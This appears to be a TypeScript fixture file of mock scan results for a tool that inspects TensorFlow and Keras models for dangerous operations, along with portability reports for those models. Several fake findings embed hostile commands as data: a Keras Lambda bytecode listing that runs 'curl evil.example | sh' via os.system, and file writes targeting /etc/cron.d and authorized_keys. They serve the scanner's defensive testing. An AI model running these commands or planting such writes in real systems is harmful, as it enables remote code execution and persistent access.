import type {
  ArtifactRow,
  PortabilityEvidencePayload,
  PortabilityPayload,
  PortabilityTargetPayload,
  ScanFindingPayload,
  ScanMarksPayload,
  ScanPayload,
  ScanPlacePayload,
} from '../src/api/types';
import type { Case } from './cases';

/** What the scan found, and where a model runs. */

export type Trusted = 'clean' | 'all' | 'broken' | 'long' | 'many' | 'waiting';

const FUNCTION = '__inference_run_serving_default_580';
const SERVING = { kind: 'signature', name: 'serving_default' };
const NOWHERE: ScanPlacePayload = {
  file: 'run1/export/saved_model.pb',
  graph: null,
  node: '',
  scope: '',
  number: -1,
  inside: '',
};

function node(name: string, graph = FUNCTION): ScanPlacePayload {
  const scope = name.slice(0, Math.max(0, name.lastIndexOf('/')));
  return { ...NOWHERE, graph, node: name, scope, number: 4 };
}

function finding(severity: string, more: Partial<ScanFindingPayload>): ScanFindingPayload {
  return {
    rule: 'file-write',
    title: 'Writes a file',
    severity,
    what: 'WriteFile',
    where: node('WriteFile'),
    reached_from: [SERVING],
    argument: '/etc/cron.d/start',
    evidence: 'writes files by name; the argument is a place of keys, settings or code',
    advice: 'Ask who made the model what it is for, and do not load or serve it before.',
    listing: [],
    count: 1,
    ...more,
  };
}

const LISTING = [
  'function <lambda> of /tmp/make.py, line 12; names __import__, system',
  '  12  RESUME                   0',
  '      LOAD_GLOBAL              1 (__import__ + NULL)',
  "      LOAD_CONST               1 ('os')",
  '      CALL                     1',
  '      LOAD_ATTR                3 (system + NULL|self)',
  "      LOAD_CONST               2 ('curl evil.example | sh')",
  '      CALL                     1',
  '      POP_TOP',
  '      LOAD_FAST                0 (x)',
  '      RETURN_VALUE',
];

const ALL: ScanFindingPayload[] = [
  finding('critical', {}),
  finding('critical', {
    argument: '/tmp/branch',
    evidence: 'writes files by name; the argument is a path outside of the model',
    where: node('cond/then/WriteFile', '__inference_write_to_903'),
    reached_from: [{ kind: 'function', name: '__inference_run_serving_default_659' }],
    count: 3,
  }),
  finding('critical', {
    rule: 'lambda-bytecode',
    title: 'A Keras layer that holds bytecode',
    what: 'Lambda l',
    where: { ...NOWHERE, file: 'run1/model.keras', inside: 'config.layers[1].config.function' },
    reached_from: [{ kind: 'loading', name: '' }],
    argument: '__import__, system, curl evil.example | sh',
    evidence: 'bytecode of Python 3.11 or newer that names __import__, system',
    advice: 'Read the listing. Never load it with safe_mode=False, nor with Keras before 2.13.',
    listing: LISTING,
  }),
  finding('high', {
    rule: 'python-call',
    title: 'Calls Python outside of the model',
    what: 'EagerPyFunc',
    where: node('EagerPyFunc'),
    argument: 'pyfunc_0',
    evidence: 'calls a Python function of the process by number: code that is not in the model',
    advice: 'The function is not in the file: find out which one is meant, or export without it.',
  }),
  finding('medium', {
    rule: 'vocabulary-read',
    title: 'Reads a vocabulary that is no asset',
    what: 'InitializeTableFromTextFileV2',
    where: node('text_vectorization/string_lookup/table_init', ''),
    reached_from: [{ kind: 'initialisation', name: '' }],
    argument: '/srv/vocabulary.txt',
    evidence:
      "fills a table or a vocabulary from a file; one of the model's own assets is not reported; the argument is a path outside of the model",
    advice: 'Export it with the file as an asset, so that it needs no other file.',
  }),
  finding('low', {
    rule: 'custom-object',
    title: "A class that is not Keras' own",
    what: 'clean_models.Scaled',
    where: { ...NOWHERE, file: 'run1/model.keras', inside: 'config.layers[1]' },
    reached_from: [],
    argument: null,
    evidence: 'loading looks for mine>Scaled, which is not in the file',
    advice: 'Loading imports its module: give it as a custom object that you know.',
  }),
  finding('info', {
    rule: 'compiled-module',
    title: 'Runs a compiled module',
    what: 'XlaCallModule',
    where: node('jax2tf/XlaCallModule'),
    reached_from: [SERVING, { kind: 'signature', name: 'predict' }],
    argument: null,
    evidence: 'runs a compiled module, whose own calls are not looked at',
    advice: 'The module itself is not looked at: trust it as you trust its maker.',
  }),
];

function long(): ScanFindingPayload {
  const name = `very_long_scope_name_${'that_goes_on_and_on_'.repeat(9)}end`;
  return finding('critical', {
    what: `tensorflow.python.${'deep.'.repeat(30)}system\u202e`,
    where: { ...node(`${name}/WriteFile`, `__inference_${name}_58`), scope: name },
    argument: `/home/${'a folder with a long name/'.repeat(24)}authorized_keys`,
    reached_from: [
      { kind: 'signature', name },
      ...[1, 2, 3, 4].map((number) => ({
        kind: 'function',
        name: `__inference_${name}_${number}`,
      })),
    ],
    evidence: `writes files by name; what is written has words of a shell: #!/bin/sh ${'curl evil.example | sh; '.repeat(12)}`,
  });
}

function many(): ScanFindingPayload[] {
  return Array.from({ length: 1000 }, (_, at) =>
    finding(at < 400 ? 'critical' : 'high', {
      rule: at < 700 ? 'file-write' : 'file-read',
      title: at < 700 ? 'Writes a file' : 'Reads a file',
      what: at < 700 ? 'WriteFile' : 'ReadFile',
      argument: `/tmp/out/${at}`,
      where: node(`loop_${at}/WriteFile`, `__inference_${at}`),
    }),
  );
}

const FINDINGS: Record<Trusted, () => ScanFindingPayload[]> = {
  clean: () => [],
  all: () => ALL,
  broken: () => [
    finding('medium', {
      rule: 'unreadable',
      title: 'Cannot be read',
      what: 'artifact',
      where: { ...NOWHERE, file: 'run1/broken' },
      reached_from: [],
      argument: null,
      evidence: 'run1/broken/saved_model.pb: expected a SavedModel protobuf, found 10319 bytes',
      advice: 'Nothing is known of it: get the file again, and do not load it before.',
    }),
  ],
  long: () => [long()],
  many,
  waiting: () => [],
};

const VERDICTS: Partial<Record<Trusted, string>> = { clean: 'clean', broken: 'damaged' };

export function scan(view: Case, row: ArtifactRow): ScanPayload | Promise<never> {
  const trusted = view.trust ?? (row.state === 'broken' ? 'broken' : 'clean');
  if (trusted === 'waiting') return new Promise(() => {});
  const findings = FINDINGS[trusted]();
  const left_out = trusted === 'many' ? 2400 : 0;
  const counts = { critical: 0, high: left_out, medium: 0, low: 0, info: 0 };
  for (const { severity } of findings) counts[severity as keyof typeof counts] += 1;
  const whole = view.verification?.verdict ?? null;
  const verdict = VERDICTS[trusted] ?? 'dangerous';
  return {
    verdict: verdict === 'clean' && whole === 'failed' ? 'damaged' : verdict,
    worst: findings[0]?.severity ?? null,
    integrity: whole,
    findings,
    counts,
    left_out,
    nodes: trusted === 'broken' ? 0 : 12_481,
    ops: 73,
    functions: 41,
    documents: 1,
    files: 6,
    gaps:
      trusted === 'all' ? ['run1/export/assets/notes.bin: of a kind that is not looked into.'] : [],
    problem: trusted === 'broken' ? (row.reason ?? 'It cannot be read.') : null,
    command: `modelinspect scan /logs/${row.path}`,
  };
}

export function marks(view: Case): ScanMarksPayload {
  const rows = view.trust ? view.artifacts.artifacts : [];
  const told = ALL.filter(({ severity }) => severity !== 'info');
  return {
    running: false,
    scanned: rows.length,
    artifacts: rows.length,
    marks: rows.slice(0, 14).map(({ id }, at) => {
      const { rule, severity, title } = told[at % told.length] as ScanFindingPayload;
      return { id, verdict: 'dangerous', worst: severity, rule, title, findings: 1 + (at % 3) };
    }),
    note: null,
  };
}

function evidence(
  verdict: string,
  what: string,
  fact: string,
  more: Partial<PortabilityEvidencePayload> = {},
): PortabilityEvidencePayload {
  const place = { advice: '', command: '', count: 3, places: [], signatures: [] };
  return { rule: 'unsupported-op', verdict, what, fact, ...place, ...more };
}

const FLEX =
  'converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]';

function target(
  name: string,
  title: string,
  verdict: string,
  evidences: PortabilityEvidencePayload[] = [],
): PortabilityTargetPayload {
  const said = evidences.filter((one) => one.verdict === verdict && verdict !== 'works');
  const more = said.length > 1 ? ` (${said.length - 1} more reasons)` : '';
  const summary = said[0] ? `${said[0].fact}${more}` : 'nothing stands against it';
  return { target: name, name, title, verdict, summary, evidence: evidences };
}

function targets(isLong: boolean): PortabilityTargetPayload[] {
  const name = isLong ? `Namespace>${'AnOpOfAVeryLongName'.repeat(10)}` : 'SentencepieceOp';
  const places = [{ graph: FUNCTION, node: `tokenizer/${name}` }];
  return [
    target('tf', 'TensorFlow 2.21', 'needs', [
      evidence('needs', name, `${name} is an op of tensorflow-text.`, {
        rule: 'add-on',
        advice: 'Install the package, and import it before the model is loaded.',
        command: 'pip install tensorflow-text==2.20.*',
        places,
        signatures: ['serving_default', 'predict'],
      }),
      evidence(
        'works',
        'VarHandleOp.debug_name',
        'TensorFlow 2.12 knows no attribute debug_name of VarHandleOp, and ignores it.',
        { rule: 'attribute-ignored' },
      ),
    ]),
    target('tflite', 'TensorFlow Lite', 'fails', [
      ...Array.from({ length: isLong ? 60 : 2 }, (_, at) =>
        evidence(
          'fails',
          `${name}${at}`,
          `TFLite has no ${name}, and its Select TF ops do not include it.`,
          {
            advice: 'Replace it, or allow custom ops and write a kernel for it.',
            places,
            signatures: ['serving_default'],
          },
        ),
      ),
      evidence(
        'needs',
        'SparseReshape',
        "TFLite has no SparseReshape of its own, but may run TensorFlow's.",
        {
          rule: 'flex-op',
          advice: 'Allow Select TF ops; the app needs the flex library then.',
          command: FLEX,
        },
      ),
    ]),
    target('tfjs', 'TensorFlow.js', 'unknown', [
      evidence('unknown', 'EvilOp', 'No table says whether TF.js has EvilOp.'),
    ]),
    target('serving', 'TensorFlow Serving 2.21', 'works'),
    target('keras3', 'Keras 3', 'needs', [
      evidence(
        'needs',
        'serving_default',
        'load_model of Keras 3 refuses SavedModels; it runs as a layer for inference.',
        {
          rule: 'tfsm-layer',
          advice: 'Wrap it, or load it with tf_keras and save it as .keras.',
          command: `keras.layers.TFSMLayer('/logs/run1/export${isLong ? '/a folder'.repeat(20) : ''}', call_endpoint='serving_default')`,
          count: 0,
        },
      ),
    ]),
  ];
}

const RELEASES = Array.from({ length: 22 }, (_, minor) => `2.${minor}`);
const OPS = ['SentencepieceOp', 'MatMul', 'VarHandleOp', 'RestoreV2', 'SparseReshape'];
const TARGETS = ['tf', 'tflite', 'tfjs', 'serving', 'keras3'];

/** Null: there is no such target. */
export function portability(
  view: Case,
  row: ArtifactRow,
  asked: string,
): PortabilityPayload | null {
  const isLong = view.trust === 'long';
  const usual = targets(isLong);
  const named = asked.split(',').map((one) => {
    const version = /^tf==(2\.\d+)$/.exec(one)?.[1];
    const old = evidence(
      'fails',
      'DisableCopyOnRead',
      `TensorFlow ${version} has no op DisableCopyOnRead; 2.13 is the first that has.`,
      { rule: 'op-too-new', advice: 'Load it with a newer TensorFlow.' },
    );
    return version ? target(one, `TensorFlow ${version}`, 'fails', [old]) : null;
  });
  if (asked && named.includes(null)) return null;
  return {
    writers: [
      {
        tags: ['serve'],
        tensorflow: '2.20.0',
        released: ['2.20', '2.20'],
        keras: '',
        producer: 2308,
        min_consumer: 12,
      },
    ],
    releases: RELEASES,
    oldest: '2.13',
    oldest_because: [
      evidence(
        'fails',
        'DisableCopyOnRead',
        'TensorFlow 2.12 has no op DisableCopyOnRead; 2.13 is the first that has.',
      ),
    ],
    targets: asked ? named.filter((one) => one !== null) : usual,
    ops: {
      op: OPS,
      count: [3, 128, 24, 1, 12],
      package: ['tensorflow-text', ...OPS.slice(1).map(() => 'tensorflow')],
      since: ['', '2.0', '2.0', '2.0', '2.0'],
      plumbing: [false, false, false, true, false],
      support: TARGETS.map((name, at) => ({
        name,
        verdict: OPS.map((_, op) =>
          op === 0 ? (usual[at]?.verdict ?? '') : op === 4 && name === 'tflite' ? 'needs' : 'works',
        ),
      })),
    },
    packages: [
      {
        name: 'tensorflow-text',
        command: 'pip install tensorflow-text==2.20.*',
        ops: ['SentencepieceOp'],
      },
    ],
    devices: [
      { name: '/device:CPU:0', count: 26 },
      { name: '/device:GPU:0', count: 4 },
    ],
    dtypes: [
      { name: 'float32', count: 55 },
      { name: 'int32', count: 2 },
      { name: 'string', count: 19 },
    ],
    notes: [],
    command: `modelinspect portability /logs/${row.path} --target tf --target tflite --target tfjs --target serving --target keras3`,
  };
}
